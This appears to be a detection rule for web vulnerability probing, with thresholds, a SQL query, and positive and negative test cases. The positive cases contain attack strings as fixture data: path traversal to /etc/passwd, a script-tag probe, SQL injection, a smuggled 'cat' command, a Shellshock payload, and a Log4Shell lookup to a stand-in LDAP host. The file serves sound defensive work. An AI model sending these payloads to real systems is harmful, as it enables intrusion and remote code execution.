/*---
title = "Web vulnerability probing: attack text"
kind = "web_vuln"
technique = "T1595.002"
reads = "web"
why = "URLs, decoded twice, or user agents and referers carry text that only attacks carry: traversal, injection, script, commands, template and object tricks."
blind = ["attacks in bodies and in headers that the log lacks", "encodings beyond two rounds", "fewer than three such URLs"]
sentence = "sent attack text to {count} pages within {window}, such as {path}"

[[rung]]
window = "1 min"
at_least = 3
why = "A link broken by a mail program or a search for SQL is one URL, perhaps two."

[[rung]]
window = "24 h"
at_least = 5
why = "An office behind one address may have several odd searches a day."

[[case]]
name = "traversal, script and injection"
events = [{ src_ip = "198.51.100.9", url = ["/a?f=../../../../etc/passwd", "/b?q=%3Cscript%3Ealert(1)%3C/script%3E", "/c?id=1%2527%2520UNION%2520SELECT%2520NULL--", "/d?id=1;cat%20/etc/passwd"], http_status = 200, every = "1s" }]
finds = ["198.51.100.9"]

[[case]]
name = "ordinary pages with an attack in place of the browser's name"
events = [{ src_ip = "198.51.100.9", url = ["/", "/about", "/news/"], user_agent = "${jndi:ldap://192.0.2.1/a}", http_status = 200, every = "1s" }]
finds = ["198.51.100.9"]

[[case]]
name = "one page with three attacks in place of the browser's name"
events = [{ src_ip = "198.51.100.9", url = "/", user_agent = ["() { :; }; /bin/id", "${jndi:ldap://192.0.2.1/a}", "' or 1=1 --"], http_status = 200, every = "1s" }]
finds = ["198.51.100.9"]

[[case]]
name = "a browser in Indonesian"
events = [{ src_ip = "198.51.100.9", url = ["/", "/about", "/news/", "/o'reilly"], user_agent = "Mozilla/5.0 (Linux; U; Android 4.4; id; X-1 (dual)) AppleWebKit/534.30; env/1", http_referer = "https://example.org/o'reilly and sons", http_status = 200, every = "1s" }]
finds = []

[[case]]
name = "ordinary searches"
events = [{ src_ip = "198.51.100.9", url = ["/search?q=select+a+union+from+the+list", "/search?q=o'reilly", "/search?q=c%2B%2B+%26+java", "/a?next=%2Fhome%2F", "/b?name=%7Bid%7D", "/c?q=1+or+2"], http_status = 200, every = "1s" }]
finds = []
---*/
SELECT source, 0 AS grp, contact AS thing, contact
FROM page_evidence
WHERE attack
